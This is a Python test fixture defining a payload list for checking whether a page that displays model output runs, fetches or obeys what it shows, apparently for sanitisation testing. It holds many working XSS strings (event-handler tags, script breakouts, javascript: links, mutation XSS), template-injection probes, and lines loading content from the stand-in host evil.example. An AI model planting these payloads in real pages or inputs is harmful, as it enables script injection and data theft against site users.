"""Texts that a model could say and that a careless page would run, fetch or obey. What runs sets window.__hit."""

from __future__ import annotations

PAYLOADS = [
    *(
        f"<{tag} {event}=window.__hit=1>"
        for tag in ("img src=x", "svg", "body", "video src=x", "details open", "input autofocus", "marquee")
        for event in ("onerror", "onload", "onfocus", "ontoggle", "onstart")
    ),
    *(
        f"<script{rest}"
        for rest in (">window.__hit=1</script>", " src=//evil.example/x.js></script>", "/x>window.__hit=1</script>", ">/*", "</")
    ),
    *(
        f"{end}<script>window.__hit=1</script>"
        for end in ("</script>", "</style>", "</title>", "</textarea>", "-->", "]]>", "</svg>", "</div>", "'>", '">', "`>")
    ),
    *(
        f"<a href='{scheme}window.__hit=1'>x</a>"
        for scheme in ("javascript:", "JaVaScRiPt:", "java\tscript:", "data:text/html,<script>", "vbscript:")
    ),
    *(
        "<iframe src=//evil.example>",
        "<iframe srcdoc='<script>parent.__hit=1</script>'>",
        "<object data=//evil.example>",
        "<embed src=//evil.example>",
    ),
    *(
        "<link rel=stylesheet href=//evil.example>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<base href=//evil.example>",
    ),
    *(
        "<style>@import '//evil.example';</style>",
        "<form action=//evil.example><button>x</button></form>",
        "<template><script>window.__hit=1</script>",
    ),
    *(
        "{{constructor.constructor('window.__hit=1')()}}",
        "${window.__hit=1}",
        "<%= 1 %>",
        "#{1}",
        "[[1]]",
        "![x](javascript:window.__hit=1)",
    ),
    *(
        "\u202egnp.exe",
        "\u2066\u2067",
        "a\u0000b",
        "\x1b[31mred\x1b]0;title\x07",
        "\u200b\u200d\ufeff",
        "\u2028\u2029",
        "\ud800",
        "&lt;script&gt;",
        "&#x3c;script>",
    ),
    *(
        "<math><mtext><table><mglyph><style><img src=x onerror=window.__hit=1>",
        "<svg><use href=//evil.example#x>",
        "<svg><animate onbegin=window.__hit=1>",
    ),
    *(
        "<svg><style>*{background:url(//evil.example)}</style>",
        "<svg><foreignObject><body onload=window.__hit=1>",
        "<noscript><p title='</noscript><img src=x onerror=window.__hit=1>'>",
    ),
    *(f"%3Cscript%3E{n}" for n in range(5)),
    *(f"<img src=//evil.example/{n}>" for n in range(5)),
    *(f"__proto__ constructor prototype {n}" for n in range(3)),
    *("x" * 5000, "\n" * 50, "\t" * 50),
]
